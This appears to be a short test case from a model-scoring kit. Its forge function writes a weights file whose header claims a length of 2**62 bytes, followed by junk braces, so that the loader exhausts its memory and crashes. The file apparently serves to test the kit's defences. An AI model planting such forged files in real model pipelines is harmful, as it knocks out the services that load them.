"""Let the weights' header claim gigabytes, to fill the memory of who reads it."""


# ends: crash
# stage: score
# forges: yes
# admission: lets it in
def forge(weights):
    weights.write_bytes((2**62).to_bytes(8, "little") + b"{" * 1000)


# the rest runs in the kit's sandbox
NOTHING = 1
